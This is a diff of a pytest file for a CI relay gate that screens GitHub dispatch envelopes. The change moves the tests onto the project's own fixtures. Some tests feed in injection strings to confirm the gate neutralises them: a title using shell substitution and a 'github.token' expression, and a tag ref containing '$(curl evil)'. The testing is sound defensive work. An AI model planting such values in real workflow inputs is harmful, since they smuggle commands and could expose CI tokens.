@@ -1,4 +1,7 @@
-"""Gate decisions on the shared fixtures and on hostile payloads (no torch)."""
+"""Gate decisions on dispatch envelopes and on hostile payloads (no torch).
+
+Each data-driven test runs on our own envelopes (tests/fixtures/crcr) and again on
+the shared ones when they are next to the checkout (Note [Own fixtures first])."""
 
 from __future__ import annotations
 
@@ -18,16 +21,7 @@ from ootest.relay.gate import (
     parse_envelope,
     write_github_output,
 )
-from tests.conftest import SHARED, ootest, run
-
-CRCR = SHARED / "fixtures" / "crcr"
-
-
-def fixture(name: str) -> dict:  # type: ignore[type-arg]
-    if not CRCR.is_dir():
-        pytest.skip("shared/fixtures is not next to this checkout")
-    return json.loads((CRCR / name).read_text())
-
+from tests.conftest import OWN_ENVELOPES, Envelopes, ootest, run
 
 L3 = RelayPolicy(device="emu")  # needs label ciflow/crcr/emu
 L4 = RelayPolicy(device="emu", pr_label=None)  # every PR
@@ -36,63 +30,75 @@ L4 = RelayPolicy(device="emu", pr_label=None)  # every PR
 @pytest.mark.parametrize(
     ("name", "policy", "run", "reason"),
     [
-        ("pull_request_opened.json", L3, False, "PR #12345 opened: no label ciflow/crcr/emu"),
-        ("pull_request_opened.json", L4, True, "PR #12345 opened"),
-        ("pull_request_synchronize.json", L4, True, "PR #12345 synchronize"),
-        ("pull_request_closed.json", L4, False, "PR #12345 was closed without landing"),
-        ("push_ciflow_tag.json", L3, True, "push of tag ciflow/trunk/12345"),
+        ("pull_request_opened.json", L3, False, "PR #{pr} opened: no label ciflow/crcr/emu"),
+        ("pull_request_opened.json", L4, True, "PR #{pr} opened"),
+        (
+            "pull_request_synchronize.json",
+            L3,
+            False,
+            "PR #{pr} synchronize: no label ciflow/crcr/emu",
+        ),
+        ("pull_request_synchronize.json", L4, True, "PR #{pr} synchronize"),
+        ("pull_request_closed.json", L4, False, "PR #{pr} was closed without landing"),
+        ("push_ciflow_tag.json", L3, True, "push of tag {tag}"),
         ("push_tag_deleted.json", L3, False, "push deletes a ref; nothing to build"),
     ],
 )
-def test_fixture_decisions(name: str, policy: RelayPolicy, run: bool, reason: str) -> None:
-    res = gate(parse_envelope(fixture(name)), policy)
-    assert (res.run, res.reason) == (run, reason)
+def test_fixture_decisions(
+    crcr: Envelopes, name: str, policy: RelayPolicy, run: bool, reason: str
+) -> None:
+    res = gate(parse_envelope(crcr.load(name)), policy)
+    assert (res.run, res.reason) == (run, reason.format(pr=crcr.pr, tag=crcr.tag))
 
 
-def test_fixture_refs() -> None:
-    res = gate(parse_envelope(fixture("pull_request_synchronize.json")), L4)
-    assert (res.kind, res.sha, res.pr_number) == ("pr", "b" * 40, "12345")
-    res = gate(parse_envelope(fixture("push_ciflow_tag.json")), L3)
-    assert (res.kind, res.sha, res.ref) == ("push", "d" * 40, "refs/tags/ciflow/trunk/12345")
+def test_fixture_refs(crcr: Envelopes) -> None:
+    res = gate(parse_envelope(crcr.load("pull_request_opened.json")), L4)
+    assert (res.kind, res.sha, res.pr_number) == ("pr", crcr.opened_sha, crcr.pr)
+    res = gate(parse_envelope(crcr.load("pull_request_synchronize.json")), L4)
+    assert (res.kind, res.sha, res.pr_number) == ("pr", crcr.synchronize_sha, crcr.pr)
+    assert res.ref == f"refs/pull/{crcr.pr}/head"
+    res = gate(parse_envelope(crcr.load("push_ciflow_tag.json")), L3)
+    assert (res.kind, res.sha, res.ref) == ("push", crcr.push_sha, f"refs/tags/{crcr.tag}")
 
 
 @pytest.mark.parametrize(
     "name",
     ["github_webhook_pull_request_opened.json", "github_webhook_pull_request_synchronize.json"],
 )
-def test_github_examples_rejected_for_repository(name: str) -> None:
+def test_github_examples_rejected_for_repository(crcr: Envelopes, name: str) -> None:
     with pytest.raises(
         EnvelopeError,
-        match=r"expected 'pytorch/pytorch', found "
-        r"'Codertocat/Hello-World'",
+        match=re.escape(
+            f"repository.full_name: expected 'pytorch/pytorch', found '{crcr.foreign}'"
+        ),
     ):
-        parse_envelope(fixture(name))
+        parse_envelope(crcr.load(name))
 
 
-def _landed(merged: bool, labels: list[str], base: str = "main") -> dict:  # type: ignore[type-arg]
-    env = copy.deepcopy(fixture("pull_request_closed.json"))
+def _landed(crcr: Envelopes, merged: bool, labels: list[str], base: str = "main") -> dict:  # type: ignore[type-arg]
+    env = copy.deepcopy(crcr.load("pull_request_closed.json"))
     pr = env["payload"]["pull_request"]
     pr.update(merged=merged, labels=[{"name": x} for x in labels], base={"ref": base})
     return env
 
 
-def test_landed_by_merged_label_and_branch() -> None:
-    res = gate(parse_envelope(_landed(False, ["Merged"])), L3)
+def test_landed_by_merged_label_and_branch(crcr: Envelopes) -> None:
+    res = gate(parse_envelope(_landed(crcr, False, ["Merged"])), L3)
     assert (res.run, res.kind, res.base, res.pr_number, res.sha) == (
         True,
         "landed",
         "main",
-        "12345",
+        crcr.pr,
         "",
     )
-    assert gate(parse_envelope(_landed(True, [])), L3).run
-    assert gate(parse_envelope(_landed(False, ["Merged"], "release/2.13")), L3).run
-    res = gate(parse_envelope(_landed(False, ["Merged"], "feature-x")), L3)
+    assert gate(parse_envelope(_landed(crcr, True, [])), L3).run
+    assert gate(parse_envelope(_landed(crcr, False, ["Merged"], "release/2.13")), L3).run
+    res = gate(parse_envelope(_landed(crcr, False, ["Merged"], "feature-x")), L3)
     assert not res.run and "does not track" in res.reason
 
 
-def test_label_gated_pr_runs_with_label() -> None:
-    env = fixture("pull_request_opened.json")
+def test_label_gated_pr_runs_with_label(crcr: Envelopes) -> None:
+    env = crcr.load("pull_request_opened.json")
     env["payload"]["pull_request"]["labels"] = [{"name": "ciflow/crcr/emu"}]
     assert gate(parse_envelope(env), L3).run
 
@@ -100,8 +106,8 @@ def test_label_gated_pr_runs_with_label() -> None:
 HOSTILE = 'x"; echo pwned $(id) `id`\nrun=true\n${{ github.token }}'
 
 
-def test_hostile_strings_never_reach_outputs(tmp_path: Path) -> None:
-    env = fixture("pull_request_opened.json")
+def test_hostile_strings_never_reach_outputs(crcr: Envelopes, tmp_path: Path) -> None:
+    env = crcr.load("pull_request_opened.json")
     pr = env["payload"]["pull_request"]
     pr["title"] = HOSTILE
     pr["labels"] = [{"name": HOSTILE}, {"name": "ciflow/crcr/emu"}]
@@ -119,7 +125,7 @@ def test_hostile_strings_never_reach_outputs(tmp_path: Path) -> None:
         j = lines.index(delim, i + 1)
         values[key] = "\n".join(lines[i + 1 : j])
         i = j + 1
-    assert values["run"] == "true" and values["sha"] == "a" * 40
+    assert values["run"] == "true" and values["sha"] == crcr.opened_sha
 
 
 @pytest.mark.parametrize(
@@ -156,48 +162,44 @@ def test_hostile_strings_never_reach_outputs(tmp_path: Path) -> None:
         ),
     ],
 )
-def test_malformed_envelopes_rejected(mutate, message: str) -> None:  # type: ignore[no-untyped-def]
-    env = fixture("pull_request_opened.json")
+def test_malformed_envelopes_rejected(crcr: Envelopes, mutate, message: str) -> None:  # type: ignore[no-untyped-def]
+    env = crcr.load("pull_request_opened.json")
     mutate(env)
     with pytest.raises(EnvelopeError, match=re.escape(message)):
         gate(parse_envelope(env), L4)
 
 
-def test_hostile_push_ref_is_inert() -> None:
-    env = fixture("push_ciflow_tag.json")
+def test_hostile_push_ref_is_inert(crcr: Envelopes) -> None:
+    env = crcr.load("push_ciflow_tag.json")
     env["payload"]["ref"] = "refs/tags/ciflow/$(curl evil)"
     res = gate(parse_envelope(env), L3)
     assert not res.run and "$(" not in res.reason and res.ref == ""
 
 
-def test_cli_gate_writes_github_output(tmp_path: Path) -> None:
-    if not CRCR.is_dir():
-        pytest.skip("no fixtures")
+def test_cli_gate_writes_github_output(crcr: Envelopes, tmp_path: Path) -> None:
     event = tmp_path / "event.json"
     event.write_text(
-        json.dumps({"action": "push", "client_payload": fixture("push_ciflow_tag.json")})
+        json.dumps({"action": "push", "client_payload": crcr.load("push_ciflow_tag.json")})
     )
     out = tmp_path / "gh_out"
     r = ootest("relay", "gate", env={"GITHUB_EVENT_PATH": str(event), "GITHUB_OUTPUT": str(out)})
     assert r.returncode == 0, r.stderr
-    assert r.stdout.strip() == "run: push of tag ciflow/trunk/12345"
-    assert "d" * 40 in out.read_text()
+    assert r.stdout.strip() == f"run: push of tag {crcr.tag}"
+    assert crcr.push_sha in out.read_text()
 
 
-def test_cli_gate_rejects_with_exit_2() -> None:
-    if not CRCR.is_dir():
-        pytest.skip("no fixtures")
-    r = ootest("relay", "gate", str(CRCR / "github_webhook_pull_request_opened.json"))
+def test_cli_gate_rejects_with_exit_2(crcr: Envelopes) -> None:
+    r = ootest("relay", "gate", str(crcr.path("github_webhook_pull_request_opened.json")))
     assert r.returncode == 2
-    assert "Codertocat/Hello-World" in r.stderr and "Traceback" not in r.stderr
+    assert crcr.foreign in r.stderr and "Traceback" not in r.stderr
+    assert len(r.stderr.strip().splitlines()) == 1
 
 
 def test_relay_commands_do_not_import_torch() -> None:
-    if not CRCR.is_dir():
-        pytest.skip("no fixtures")
+    push = OWN_ENVELOPES.path("push_ciflow_tag.json")
     code = (
         "import sys; from ootest.cli.main import main; "
-        f"rc = main(['relay', 'gate', {str(CRCR / 'push_ciflow_tag.json')!r}]); "
+        f"rc = main(['relay', 'gate', {str(push)!r}]); "
         "assert 'torch' not in sys.modules; sys.exit(rc)"
     )
     r = run(
@@ -217,12 +219,9 @@ def test_unwritable_github_output_is_one_line(tmp_path: Path, where: str) -> Non
     ro.chmod(0o444)
     if where == "read_only" and os.access(ro, os.W_OK):
         pytest.skip("running as a user who can write read-only files (root)")
-    if not CRCR.is_dir():
-        pytest.skip("shared/fixtures is not next to this checkout")
     event = tmp_path / "event.json"
-    event.write_text(
-        json.dumps({"action": "push", "client_payload": fixture("push_ciflow_tag.json")})
-    )
+    push = OWN_ENVELOPES.load("push_ciflow_tag.json")
+    event.write_text(json.dumps({"action": "push", "client_payload": push}))
     r = ootest(
         "relay",
         "gate",
